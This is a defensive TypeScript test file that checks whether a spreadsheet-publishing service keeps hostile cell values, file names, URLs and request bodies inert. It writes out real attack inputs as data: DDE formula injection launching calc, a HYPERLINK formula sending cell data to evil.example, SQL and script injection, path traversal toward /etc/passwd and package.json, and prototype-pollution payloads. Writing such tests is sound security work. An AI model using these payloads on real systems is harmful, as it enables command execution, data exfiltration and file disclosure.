import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { DEFAULT_POLICY } from '../src/core/policy/default';
import { xlsxHost } from '../src/host/xlsx/file-host';
import { FIXTURES, mokuhyo, mokuhyoJson, ROOT, service } from './support/cli';
import { removeFolder, temporaryFolder } from './support/temporary-folder';

// What a person, or somebody with bad intent, may type into a cell is data everywhere on its way: file, command line,
// service, log, page, CSV.

const MARK = 'himitsu-no-mojiretsu';
const HOSTILE: readonly string[] = [
  `=cmd|' /C calc'!A0 ${MARK}`,
  `+HYPERLINK("https://evil.example?x="&A1) ${MARK}`,
  `-2+3+cmd|' /C calc'!A0 ${MARK}`,
  `@SUM(1+1) ${MARK}`,
  `\t=1+1 ${MARK}`,
  `'); DROP TABLE records; -- ${MARK}`,
  `"><script>alert(1)</script><img src=x onerror=alert(1)> ${MARK}`,
  `\${process.exit(1)} {{7*7}} %s %n ${MARK}`,
  `\u001b[2J\u001b]0;${MARK}\u0007 \u202e`,
  `{"event":"stopped"}\n{"event":"started","url":"${MARK}"}`,
  `__proto__ constructor prototype ${MARK}`,
  `../../../../etc/passwd\u0000.xlsx ${MARK}`,
];

let folder: string;
let running: Awaited<ReturnType<typeof service>>;
let log: () => string;
beforeAll(async () => {
  folder = temporaryFolder();
  running = await service(join(folder, 'data'));
  log = running.log;
});
afterAll(async () => {
  await running.stop();
  removeFolder(folder);
});

/** The published workbook with hostile names, results and words in the rows of one sheet after the other. */
async function hostileWorkbook(): Promise<string> {
  const source = join(FIXTURES, 'kita-r4.xlsx');
  const bytes = new Uint8Array(readFileSync(source));
  const { json } = await mokuhyoJson(['read', source]);
  const cells = json.sheets.flatMap((sheet: any) =>
    sheet.goals.flatMap((goal: any) =>
      goal.indicators.map((each: any) => ({ sheet: sheet.sheet, cell: each.cells.result, before: each.result })),
    ),
  );
  const file = join(folder, "=1+1 '北区' & <b>.xlsx");
  const host = xlsxHost({ file, bytes, save: (saved) => writeFileSync(file, saved) });
  const outcomes = await host.write(HOSTILE.map((after, at) => ({ ...cells[at], after })));
  expect(outcomes.map(({ kind }) => kind)).toEqual(HOSTILE.map(() => 'written'));
  return file;
}

it('keeps them as they are, and lets none of them do anything', async () => {
  const file = await hostileWorkbook();
  const sent = await mokuhyoJson(['push', file, '--list', running.url, '--allow-errors']);
  expect(sent.json).toMatchObject({ created: 42, failed: [] });

  const records = (await mokuhyoJson(['export', '--list', running.url, '--kind', 'indicator'])).json;
  expect(records).toHaveLength(42);
  const results = records.map((each: any) => each.result);
  expect(results).toEqual(expect.arrayContaining([...HOSTILE]));
  expect(records[0].file).toBe("=1+1 '北区' & <b>.xlsx");
  expect(({} as any).polluted).toBeUndefined();

  for (const kind of ['indicator', 'sheet']) {
    const csv = await mokuhyo(['export', '--list', running.url, '--kind', kind, '--format', 'csv']);
    const rows = cellsOf(csv.stdout);
    expect(rows.length).toBeGreaterThan(8);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    const live = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?[\d.,]*%?$/.test(cell));
    expect(live).toEqual([]);
  }

  const page = await (await fetch(running.url)).text();
  expect(page).not.toMatch(/<script|<img|onerror=alert\(1\)>/);

  const text = await mokuhyo(['export', '--list', running.url]);
  expect(text.stdout).toContain(MARK);
});

it('writes none of them into the log, whose every line stays one entry', async () => {
  const { stdout } = await mokuhyo(['history', `x\n{"event":"stopped"}${MARK}`, '--list', running.url]);
  expect(stdout).toBe('');
  await fetch(`${running.url}/${encodeURIComponent(`\r\n${MARK}`)}`);
  await fetch(`${running.url}/api/v1/records?sheet=${encodeURIComponent(MARK)}`);
  const lines = log().trim().split('\n');
  expect(lines.length).toBeGreaterThan(3);
  for (const line of lines) expect(JSON.parse(line)).toHaveProperty('event');
  expect(log()).not.toContain(MARK);
});

it.each([
  '/pane/..%2f..%2fpackage.json',
  '/pane/%2e%2e/%2e%2e/package.json',
  '/pane/..%5c..%5cpackage.json',
  '/pane/....//package.json',
  '/workbench/..%2fpackage.json',
  '/workbench/%2e%2e%2fcli.mjs',
  '/api/v1/schema/..%2f..%2fpackage.json',
  '/data/mokuhyo.db',
  '/%00',
  '/__proto__',
  '/constructor/prototype',
])('reaches no file by %s', async (path) => {
  const response = await fetch(`${running.url}${path}`);
  expect([400, 404]).toContain(response.status);
  const secret = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).description;
  expect(await response.text()).not.toContain(secret);
});

it.each([
  ['{"__proto__":{"polluted":true},"sheet":{},"indicators":[]}'],
  ['{"constructor":{"prototype":{"polluted":true}},"sheet":{},"indicators":[]}'],
  ['{"sheet":{"__proto__":{"polluted":true}},"indicators":[{"__proto__":{"polluted":true}}]}'],
])('is not polluted by %s', async (body) => {
  const response = await fetch(`${running.url}/api/v1/sheets/x`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body,
  });
  expect(response.status).toBe(422);
  expect(await response.text()).not.toContain('true');
  const after = await fetch(`${running.url}/api/v1/records?limit=1`);
  expect(await after.text()).not.toContain('polluted');
});

it('takes neither list nor token nor policy from a workbook, whatever it carries', async () => {
  const source = join(FIXTURES, 'shimin-r4.xlsx');
  const settings = {
    list: 'http://127.0.0.1:9',
    token: MARK,
    policy: { ...DEFAULT_POLICY, rules: { 'duplicate-sheet': { state: 'off' } } },
  };
  const text = JSON.stringify(settings);
  const properties = Object.entries(settings).map(
    ([name, value], at) =>
      `<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="${at + 2}" name="${name}"><vt:lpwstr>${JSON.stringify(value).replaceAll('"', '&quot;')}</vt:lpwstr></property>`,
  );
  const custom = `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">${properties.join('')}</Properties>`;
  const file = join(folder, 'defaults.json.xlsx');
  writeFileSync(
    file,
    zipSync({
      ...unzipSync(new Uint8Array(readFileSync(source))),
      'docProps/custom.xml': strToU8(custom),
      'customXml/item1.xml': strToU8(`<settings>${text.replaceAll('<', '&lt;')}</settings>`),
      'defaults.json': strToU8(text),
      'policy.json': strToU8(JSON.stringify(settings.policy)),
    }),
  );
  const [plain, prepared] = await Promise.all([source, file].map((each) => mokuhyoJson(['check', each])));
  expect(prepared?.code).toBe(1);
  expect({ ...prepared?.json, file: '' }).toEqual({ ...plain?.json, file: '' });
  const unset = await mokuhyo(['push', file]);
  expect([unset.code, unset.stderr]).toEqual([2, expect.stringContaining('--list')]);
});

/** The cells of a CSV, quotes taken away. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
